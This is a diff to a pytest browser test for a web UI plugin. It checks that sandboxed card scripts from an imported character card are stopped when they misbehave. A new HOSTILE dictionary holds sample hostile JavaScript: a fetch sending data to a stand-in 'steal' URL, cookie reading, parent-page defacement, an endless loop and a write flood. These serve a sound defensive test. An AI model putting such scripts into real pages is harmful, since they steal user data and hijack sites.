@@ -20,7 +20,12 @@ import pytest
 pytestmark = pytest.mark.slow
 
 EXAMPLES = (
-    Path(__file__).resolve().parents[3] / "plugins" / "webui" / "src" / "innkeeper_webui" / "examples"
+    Path(__file__).resolve().parents[3]
+    / "plugins"
+    / "webui"
+    / "src"
+    / "innkeeper_webui"
+    / "examples"
 )
 STATUS_CARD = EXAMPLES / "example-status-bar.json"
 
@@ -94,6 +99,11 @@ def wait_panel(page: Any, name: str, *parts: str) -> str:
 
 def stat_data(server: Any) -> dict[str, Any]:
     """The current MVU ``stat_data`` of the catalog's first playthrough's head session."""
+    return dict(mvu_resource(server)["content"]["stat_data"])
+
+
+def mvu_resource(server: Any) -> dict[str, Any]:
+    """The current MVU resource (content, revision) of the first playthrough's head session."""
     catalog = server.call("GET", "/pmp-dsh-tavern/api/v2/workspace/files?path=catalog.json")
     row = json.loads(catalog["content"])["playthroughs"][0]
     timeline = server.call(
@@ -104,10 +114,12 @@ def stat_data(server: Any) -> dict[str, Any]:
     listed = server.call("GET", f"/pmp-dsh-tavern/api/v1/mvu/resources?scope={scope}")
     rid = urllib.parse.quote(listed["resources"][0]["id"])
     found = server.call("GET", f"/pmp-dsh-tavern/api/v1/mvu/resource?id={rid}&scope={scope}")
-    return dict(found["resource"]["content"]["stat_data"])
+    return dict(found["resource"])
 
 
-def test_status_bar_script_granted_played_and_revoked(practice_page: Any, practice_server: Any) -> None:
+def test_status_bar_script_granted_played_and_revoked(
+    practice_page: Any, practice_server: Any
+) -> None:
     """Import an MVU card with a script, grant it, play two turns, see the panel follow the MVU
     state, click the panel's button (a player's write), revoke, see it stop."""
     page, server = practice_page, practice_server
@@ -148,3 +160,89 @@ def test_status_bar_script_granted_played_and_revoked(practice_page: Any, practi
     send(page, "Onwards.")
     assert stat_data(server)["replies"] == 2  # a stopped script changes nothing
     assert page.problems() == []
+
+
+HOSTILE = {
+    # Never returns: the Worker cannot answer the watchdog's ping.
+    "Endless loop": "for (;;) {}",
+    # Another origin: the sandbox's policy (inherited by the Worker) refuses every request.
+    "Phone home": (
+        "await fetch('https://example.com/steal?c=' + encodeURIComponent(String(self.location)))\n"
+        "await Mvu.updateVariablesWith([{ op: 'replace', path: '/hp', value: 666 }])"
+    ),
+    # The page, its cookies, the top window: none of them exist in the Worker.
+    "Escape": (
+        "$('body').text('cookie: ' + String(document.cookie))\n"
+        "window.parent.document.body.innerHTML = 'pwned'\n"
+        "top.location = 'https://example.com/'"
+    ),
+    # 10,000 writes a second.
+    "Flood": (
+        "setInterval(() => {\n"
+        "  for (let i = 0; i < 100; i++) Mvu.updateVariablesWith([{ op: 'replace', path: '/hp',"
+        " value: i }]).catch(() => {})\n"
+        "}, 10)"
+    ),
+}
+
+
+def hostile_card(tmp_path: Path) -> Path:
+    """The status-bar card with the hostile scripts after its own."""
+    card = json.loads(STATUS_CARD.read_text())
+    card["data"]["name"] = "Wren Hostile"
+    scripts = card["data"]["extensions"]["tavern_helper"]["scripts"]
+    for name, content in HOSTILE.items():
+        scripts.append(
+            {"type": "script", "enabled": True, "name": name, "id": name, "content": content}
+        )
+    path = tmp_path / "wren-hostile.json"
+    path.write_text(json.dumps(card))
+    return path
+
+
+def test_hostile_scripts_are_stopped_and_the_chat_goes_on(
+    practice_page: Any, practice_server: Any, tmp_path: Path
+) -> None:
+    """An endless loop, a request to another origin, a reach for the page and 10,000 writes a
+    second: each is stopped with its notice; the well-behaved script and the chat carry on."""
+    page, server = practice_page, practice_server
+    import_card(page, hostile_card(tmp_path), "Wren Hostile")
+    page.driver.execute_script("document.cookie = 'innkeeper_secret=s3cret; path=/'")
+    send(page, "Lead the way.")
+    dialog = page.wait(
+        lambda: page.driver.find_elements("css selector", ".card-scripts dialog"), "the question"
+    )[0]
+    assert "5 card script(s)" in dialog.text, dialog.text
+    page.one("button", "Allow scripts").click()
+
+    def notices() -> str:
+        return str(page.driver.find_element("css selector", ".card-script-notices").text)
+
+    expected = {
+        "Endless loop": "stopped answering",
+        "Phone home": "Failed to fetch",
+        "Escape": "reading 'document'",
+        "Flood": "too much, too fast",
+    }
+    for name, reason in expected.items():
+        page.wait(
+            lambda name=name, reason=reason: any(
+                f"“{name}” was stopped" in line and reason in line
+                for line in notices().splitlines()
+            ),
+            f"{name} stopped ({reason})",
+        )
+    # Only the well-behaved script still has a panel.
+    page.wait(
+        lambda: [f.get_attribute("title") for f in frames(page)] == ["Card script: Status bar"],
+        "only the status bar left",
+    )
+    assert "pwned" not in page.driver.find_element("css selector", "body").text
+    # The chat goes on, and so does the status bar.
+    send(page, "Are we safe?")
+    wait_panel(page, "Status bar", "Replies 1")
+    stats = stat_data(server)
+    assert stats["hp"] != 666 and stats["replies"] == 1
+    assert "s3cret" not in json.dumps(stats)
+    # The flood got at most its burst of writes to the host before it was stopped.
+    assert mvu_resource(server)["revision"] <= 2 + 20 + 2
